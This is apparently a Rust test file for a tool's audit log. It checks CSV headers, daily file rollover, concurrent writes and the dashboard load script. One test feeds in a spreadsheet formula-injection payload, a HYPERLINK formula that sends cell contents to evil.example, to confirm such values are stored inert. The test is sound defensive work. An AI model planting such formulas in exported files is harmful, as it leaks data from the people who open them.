//! The audit trail: a real SQLite store and real CSV files, read back with a CSV parser.

use std::path::Path;

#[path = "support/servers.rs"]
mod servers;
use servers::settings_with;

use chrono::{TimeZone, Utc};
use promoter::audit::{Audit, CSV_HEADER, CsvAuditLog};
use promoter::config::Settings;
use promoter::engine::hooks::AuditEvent;
use promoter::store::Store;

/// The header of every daily file, fixed: the dashboard's load script depends on it.
const HEADER_LINE: &str =
    "time_utc,job_id,app_id,app_name,event,site,stream,target_app_id,actor,outcome,detail\r\n";

fn settings(dir: &Path) -> Settings {
    settings_with(&format!(
        "[audit]\nfolder = {:?}\n",
        dir.join("audit").display().to_string()
    ))
}

async fn store(dir: &Path) -> Store {
    Store::open_url(&format!(
        "sqlite://{}?mode=rwc",
        dir.join("promoter.db").display()
    ))
    .await
    .unwrap()
}

fn event(day: u32, app_name: &str, detail: &str) -> AuditEvent {
    AuditEvent {
        time: Utc.with_ymd_and_hms(2024, 5, day, 23, 59, 58).unwrap(),
        job_id: Some("job-1".into()),
        app_id: "0b5e9c1d-1111-2222-3333-444455556666".into(),
        app_name: app_name.into(),
        event: "step".into(),
        site: "test".into(),
        stream: "Sales".into(),
        target_app_id: "aaaa-1".into(),
        actor: "CORP\\boss".into(),
        outcome: "ok".into(),
        detail: detail.into(),
    }
}

fn read_rows(path: &Path) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(path)
        .unwrap();
    r.records()
        .map(|rec| rec.unwrap().iter().map(String::from).collect())
        .collect()
}

#[tokio::test]
async fn the_csv_header_and_columns_are_fixed() {
    assert_eq!(CSV_HEADER.join(",") + "\r\n", HEADER_LINE);
    let dir = tempfile::tempdir().unwrap();
    let audit = Audit::new(&settings(dir.path()), store(dir.path()).await);
    audit
        .record(&event(1, "Verkäufe 販売", "promote:test:sales: replaced"))
        .await
        .unwrap();
    audit
        .record(&event(1, "Sales, \"Q1\"", "second"))
        .await
        .unwrap();

    let file = dir.path().join("audit/promoter-audit-2024-05-01.csv");
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(text.starts_with(HEADER_LINE), "{text}");
    assert_eq!(text.matches("time_utc").count(), 1, "one header per file");
    let rows = read_rows(&file);
    assert_eq!(rows.len(), 3);
    assert_eq!(
        rows[1],
        [
            "2024-05-01 23:59:58.000",
            "job-1",
            "0b5e9c1d-1111-2222-3333-444455556666",
            "Verkäufe 販売",
            "step",
            "test",
            "Sales",
            "aaaa-1",
            "CORP\\boss",
            "ok",
            "promote:test:sales: replaced",
        ]
    );
    assert_eq!(rows[2][3], "Sales, \"Q1\"");

    // The store has the same events, for `promoter history`.
    let stored = store(dir.path()).await.audit_list(None, 10).await.unwrap();
    assert_eq!(stored.len(), 2);
    assert_eq!(
        stored[0],
        event(1, "Verkäufe 販売", "promote:test:sales: replaced")
    );

    // `promoter history` reads the same store.
    let mut s = settings(dir.path());
    s.data.database = Some(promoter::config::Secret::new(format!(
        "sqlite://{}?mode=rwc",
        dir.path().join("promoter.db").display()
    )));
    promoter::audit::cli_history(&s, Some("0b5e9c1d-1111-2222-3333-444455556666"), 1)
        .await
        .unwrap();
}

#[tokio::test]
async fn formula_like_values_are_stored_inert() {
    let dir = tempfile::tempdir().unwrap();
    let audit = Audit::new(&settings(dir.path()), store(dir.path()).await);
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    let mut e = event(2, evil, "-2+3");
    e.actor = "@admin".into();
    e.stream = "+Sales".into();
    e.site = "\tTab".into();
    audit.record(&e).await.unwrap();

    let rows = read_rows(&dir.path().join("audit/promoter-audit-2024-05-02.csv"));
    let row = &rows[1];
    assert_eq!(row[3], format!("'{evil}"));
    assert_eq!(row[10], "'-2+3");
    assert_eq!(row[8], "'@admin");
    assert_eq!(row[6], "'+Sales");
    assert_eq!(row[5], "'\tTab");
    for (i, v) in row.iter().enumerate() {
        assert!(
            !v.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "column {} starts like a formula: {v:?}",
            CSV_HEADER[i]
        );
    }
    // The store keeps the original text.
    let stored = store(dir.path())
        .await
        .audit_list(Some(&e.app_id), 10)
        .await
        .unwrap();
    assert_eq!(stored[0].app_name, evil);
}

#[tokio::test]
async fn files_roll_over_by_day_and_rows_stay_on_one_line() {
    let dir = tempfile::tempdir().unwrap();
    let log = CsvAuditLog::new(&dir.path().join("audit"));
    let p1 = log.append(&event(3, "A", "line one\r\nline two")).unwrap();
    let mut next = event(3, "B", "x");
    next.time += chrono::Duration::seconds(3); // 2024-05-04 00:00:01
    let p2 = log.append(&next).unwrap();
    let p3 = log
        .append(&event(3, "C", "late event for the 3rd"))
        .unwrap();
    assert_eq!(p1, dir.path().join("audit/promoter-audit-2024-05-03.csv"));
    assert_eq!(p2, dir.path().join("audit/promoter-audit-2024-05-04.csv"));
    assert_eq!(p3, p1);
    let day3 = std::fs::read_to_string(&p1).unwrap();
    assert_eq!(day3.lines().count(), 3, "{day3}");
    assert!(day3.contains("line one line two"));
    let day4 = std::fs::read_to_string(&p2).unwrap();
    assert!(day4.starts_with(HEADER_LINE));
    assert_eq!(day4.lines().count(), 2);
    assert!(day4.contains("2024-05-04 00:00:01.000"));

    // A file moved away (archived) is started again, with its header.
    std::fs::remove_file(&p2).unwrap();
    log.append(&next).unwrap();
    let again = std::fs::read_to_string(&p2).unwrap();
    assert!(again.starts_with(HEADER_LINE));
    assert_eq!(again.lines().count(), 2);
}

#[tokio::test]
async fn concurrent_writers_produce_whole_rows() {
    let dir = tempfile::tempdir().unwrap();
    let audit = Audit::new(&settings(dir.path()), store(dir.path()).await);
    // A second writer on the same folder, as another process would be.
    let other = CsvAuditLog::new(&dir.path().join("audit"));
    let long = "x".repeat(3000);
    let mut tasks = Vec::new();
    for i in 0..40 {
        let audit = audit.clone();
        let detail = format!("{i}:{long}");
        tasks.push(tokio::spawn(async move {
            audit
                .record(&event(5, &format!("app {i}"), &detail))
                .await
                .unwrap();
        }));
    }
    for i in 0..40 {
        other
            .append(&event(5, &format!("other {i}"), &long))
            .unwrap();
    }
    for t in tasks {
        t.await.unwrap();
    }
    let rows = read_rows(&dir.path().join("audit/promoter-audit-2024-05-05.csv"));
    assert_eq!(rows[0], CSV_HEADER);
    assert_eq!(rows.len(), 81);
    assert!(
        rows[1..]
            .iter()
            .all(|r| r.len() == 11 && r[10].ends_with(&long))
    );
}

#[test]
fn the_dashboard_script_reads_the_files_promoter_writes() {
    let script = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("dashboard/promoter-audit.qvs"),
    )
    .unwrap();
    // Every CSV column is loaded by its header name.
    for column in CSV_HEADER {
        assert!(
            script.contains(&format!("{column})"))
                || script.contains(&format!("{column},"))
                || script.contains(&format!("{column} ")),
            "the load script does not read the column {column}"
        );
    }
    // The wildcard matches the daily file names, and the time format is the one written.
    let log = CsvAuditLog::new(Path::new("/audit"));
    let name = log
        .file_for(chrono::NaiveDate::from_ymd_opt(2024, 5, 1).unwrap())
        .file_name()
        .unwrap()
        .to_string_lossy()
        .to_string();
    assert_eq!(name, "promoter-audit-2024-05-01.csv");
    assert!(script.contains("SET vAuditFiles = 'promoter-audit-*.csv';"));
    assert!(script.contains("(txt, utf8, embedded labels, delimiter is ',', msq)"));
    assert!(script.contains("Timestamp#(time_utc, 'YYYY-MM-DD hh:mm:ss.fff')"));
    assert_eq!(promoter::audit::CSV_TIME_FORMAT, "%Y-%m-%d %H:%M:%S%.3f");
}
